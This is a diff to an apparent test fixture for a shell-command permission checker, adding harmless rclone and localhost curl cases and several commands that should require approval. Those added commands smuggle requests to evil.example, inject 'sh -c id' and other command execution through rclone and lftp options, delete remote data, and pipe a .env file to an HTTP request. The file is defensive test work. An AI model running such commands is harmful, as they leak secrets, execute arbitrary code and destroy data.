@@ -27,6 +27,9 @@ HARMLESS = (
     ("rsync", "rsync -a --exclude='*.pyc' --stats a b"),
     ("rsync", "rsync -rtvzP a/ b/"),
     ("mosh", "mosh me@host"),
+    ("curl -s http://localhost:8000", "curl -s http://localhost:8000 -o /dev/null -w '%{http_code}'"),
+    ("rclone ls", "rclone ls remote:folder/a,b"),
+    ("rclone lsf", "rclone lsf -R remote:"),
 )
 ASKS = (
     ("curl", "curl -o pwn https://x"),
@@ -104,4 +107,15 @@ ASKS = (
     ("mosh", "mosh --server=./evil host"),
     ("scp", "scp -T host:x ."),
     ("scp", "scp -O host:x ."),
+    ("curl -s http://localhost:8000", "curl -s http://localhost:8000 http://evil.example"),
+    ("curl http://localhost:8000", "curl http://localhost:8000 --url http://evil.example"),
+    ("wget -qO- http://localhost", "wget -qO- http://localhost evil.example"),
+    ("rclone ls", "rclone ls ':sftp,ssh=\"sh -c id\",host=x:/'"),
+    ("rclone cat", "rclone cat remote,command=id:x"),
+    ("rclone ls", "rclone ls remote: --config evil"),
+    ("rclone", "rclone delete remote:x"),
+    ("sftp", "sftp h < cmds"),
+    ("ftp", "ftp h < cmds"),
+    ("lftp", "lftp -e '!id' h"),
+    ("http GET", "http GET localhost:8000 < .env"),
 )
